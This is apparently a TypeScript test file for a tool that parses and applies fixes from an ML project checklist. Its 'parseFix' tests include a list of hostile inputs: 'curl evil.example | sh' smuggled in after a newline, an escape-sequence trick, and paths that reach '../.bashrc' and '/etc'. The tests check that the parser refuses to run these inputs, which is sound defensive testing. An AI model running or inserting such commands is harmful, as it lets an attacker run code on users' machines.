import assert from 'node:assert/strict';
import { anchorOf, parseFix, scaffoldedPlace } from '../../../src/core/checklist/fixTarget';
import { fixText } from '../../../src/core/checklist/fixText';
import { ProjectChecklist } from '../../../src/core/checklist/projectChecklist';
import { withRecorded } from '../../../src/core/checklist/recordEdits';
import { recordedAnswers } from '../../../src/core/checklist/recordedAnswers';
import { catalogue, type Requirement } from '../../../src/core/checklist/requirement';
import { sha256 } from '../../../src/node/sha256';
import { treeProject, type Tree } from '../../support/treeProject';

const requirement = (id: string): Requirement => {
  const found = catalogue.find((one) => one.id === id);
  assert.ok(found, id);
  return found;
};

const verdictOf = async (id: string, tree: Tree): Promise<string | undefined> => {
  const options = { today: '2026-01-31', profile: 'production' } as const;
  const { items } = await new ProjectChecklist(sha256).assess(treeProject(tree), options);
  return items.find((item) => item.requirement.id === id)?.verdict;
};

describe('parseFix', () => {
  const targets = {
    'docs/01-scoping.md#cost-of-errors': {
      kind: 'section',
      path: 'docs/01-scoping.md',
      anchor: 'cost-of-errors',
    },
    'src/<pkg>/logger.py': { kind: 'file', path: 'src/app/logger.py' },
    Dockerfile: { kind: 'file', path: 'Dockerfile' },
    'pyproject.toml [tool.ruff]': { kind: 'table', path: 'pyproject.toml', table: 'tool.ruff' },
    'run `dvc init` and `dvc add data`': { kind: 'command', command: 'dvc init && dvc add data' },
    '.gitignore entry for .env and an .env.example': {
      kind: 'line',
      path: '.gitignore',
      line: '.env',
    },
    "the extension's commit-msg hook": { kind: 'advice', text: "the extension's commit-msg hook" },
  } as const;
  for (const [fix, target] of Object.entries(targets)) {
    it(`reads "${fix}"`, () => {
      assert.deepEqual(parseFix(fix, 'app'), target);
    });
  }

  const harmful = [
    'run `true\ncurl evil.example | sh`',
    'run `true\rcurl evil.example | sh`',
    'run `ls` and `\u001b[200~ls`',
    '../../other/README.md#x',
    '../.bashrc',
    '/etc/a.toml [tool]',
    'src/<pkg>/main.py',
  ];
  for (const fix of harmful) {
    it(`leaves ${JSON.stringify(fix)} of an untrusted author to the person`, () => {
      assert.equal(parseFix(fix, '../../..').kind, 'advice');
    });
  }

  it('leaves few fixes of the catalogue to the person', () => {
    const fixes = catalogue.flatMap(({ fix }) => fix ?? []);
    const advice = fixes.filter((fix) => parseFix(fix, 'app').kind === 'advice');
    assert.deepEqual(advice, [
      'add data patterns to .gitignore and move files to DVC',
      "the extension's commit-msg hook",
    ]);
  });
});

describe('scaffoldedPlace', () => {
  const places = ['.', 'src/app/checks.py', 'src/logger.py'].map(
    (path) => ({ path, line: 3, snippet: '', rule: 'code', level: 'strong' }) as const,
  );
  const place = (verdict: 'scaffolded' | 'none', path: string): string | undefined =>
    scaffoldedPlace({ verdict, evidence: places }, path)?.path;

  it('is the scaffold that has the name of the file, or else the first', () => {
    assert.equal(place('scaffolded', 'src/app/logger.py'), 'src/logger.py');
    assert.equal(place('scaffolded', 'dvc.yaml'), 'src/app/checks.py');
  });

  it('is nowhere where nothing waits to be filled in', () => {
    assert.equal(place('none', 'src/app/logger.py'), undefined);
    assert.equal(scaffoldedPlace({ verdict: 'scaffolded', evidence: [] }, 'a'), undefined);
  });
});

describe('anchorOf', () => {
  it('makes the anchors that links to headings have', () => {
    assert.equal(anchorOf('Is ML the right tool?'), 'is-ml-the-right-tool');
    assert.equal(anchorOf('Privacy & law'), 'privacy-law');
  });
});

describe('fixText', () => {
  const section = { kind: 'section', path: 'docs/a.md', anchor: 'cost-of-errors' } as const;
  const of = requirement('ml-error-cost');

  it('finds the place for words in a section that is there', () => {
    const current = '# A\n\n## Cost of errors\n\n<!-- guide\nmore -->\n\n## Next\n';
    const { text, line } = fixText(of, section, { current, template: undefined });
    assert.equal(text, current);
    assert.equal(line, 7);
  });

  it('takes headings in code for text', () => {
    const current = '```\n## Cost of errors\n```\n';
    const { text } = fixText(of, section, { current, template: undefined });
    assert.ok(text.startsWith(current.trimEnd()));
    assert.match(text, /```\n\n## Cost of errors\n/);
  });

  it("adds the template's section, and nothing else of it", () => {
    const template = '# A\n\n## Other\n\n## Cost of errors\n\n<!-- guide -->\n\n## Next\n';
    const fixed = fixText(of, section, { current: '# Mine\n', template });
    assert.equal(fixed.text, '# Mine\n\n## Cost of errors\n\n<!-- guide -->\n\n');
    assert.equal(fixed.section, 'Cost of errors');
    assert.equal(fixed.line, 6);
  });

  it("takes the template's whole text where the document is missing", () => {
    const template = '# A\n\n## Cost of errors\n\n<!-- guide -->\n\n';
    const fixed = fixText(of, section, { current: undefined, template });
    assert.equal(fixed.text, template);
    assert.equal(fixed.line, 6);
  });

  it('adds a table or a line once', () => {
    const table = { kind: 'table', path: 'pyproject.toml', table: 'tool.ruff' } as const;
    const once = fixText(of, table, { current: '[project]\n', template: undefined });
    assert.match(once.text, /^\[project\]\n\n\[tool\.ruff\]\n# /);
    assert.equal(fixText(of, table, { current: once.text, template: undefined }).text, once.text);
    const line = { kind: 'line', path: '.gitignore', line: '.env' } as const;
    const ignored = fixText(of, line, { current: 'data/', template: undefined });
    assert.deepEqual(ignored, { text: 'data/\n.env\n', line: 2 });
    assert.deepEqual(fixText(of, line, { current: ignored.text, template: undefined }), ignored);
  });
});

describe('what a fix creates', () => {
  const context = { 'model/context.py': 'import sklearn\n' };
  for (const of of catalogue) {
    if (of.fix === undefined) continue;
    const target = parseFix(of.fix, 'app');
    if (target.kind !== 'file' && target.kind !== 'section') continue;

    it(`of ${of.id} shows nothing until somebody fills it in`, async () => {
      const before = await verdictOf(of.id, context);
      const { text, section } = fixText(of, target, { current: undefined, template: undefined });
      const written = { path: target.path, text, ...(section === undefined ? {} : { section }) };
      const record = withRecorded('', { path: target.path, text }, sha256);
      assert.ok(record);
      const tree = { ...context, [target.path]: text, '.ml-project/template.yaml': record };
      const verdict = await verdictOf(of.id, tree);
      assert.ok(
        verdict === 'scaffolded' || verdict === before,
        `${of.id}: ${String(before)} became ${String(verdict)} by ${JSON.stringify(written)}`,
      );
    });
  }
});

describe('withRecorded', () => {
  it('adds to a record and keeps what is in it', () => {
    const record = '# Do not edit.\ntemplate: course\nfiles:\n  "a.py": 0a\n';
    const text = withRecorded(record, { path: 'b.py', text: 'x' }, sha256) ?? '';
    assert.ok(text.startsWith(record));
    assert.match(text, new RegExp(`^  b\\.py: ${sha256('x')}$`, 'm'));
  });

  it('remembers one section of a document of the team', () => {
    const text = '# Mine\n\nwords\n\n## New\n\n<!-- guide -->\n';
    const record = withRecorded('', { path: 'a.md', text, section: 'New' }, sha256);
    assert.equal(record, `sections:\n  a.md:\n    New: ${sha256('')}\n`);
  });

  it('leaves a broken record alone', () => {
    assert.equal(withRecorded('a: [', { path: 'a.md', text: '' }, sha256), undefined);
  });
});

describe('recordedAnswers', () => {
  it('tells the name and the package from the answers', () => {
    const record = 'answers:\n  name: a-b\n  package: a_b\n  sample: true\n';
    assert.deepEqual(recordedAnswers(record), {
      name: 'a-b',
      packageName: 'a_b',
      given: { sample: true },
    });
  });

  for (const record of ['', 'answers: 3', 'a: [', 'answers: {name: {}}']) {
    it(`answers nothing from ${JSON.stringify(record)}`, () => {
      const nothing = { name: undefined, packageName: undefined, given: {} };
      assert.deepEqual(recordedAnswers(record), nothing);
    });
  }
});
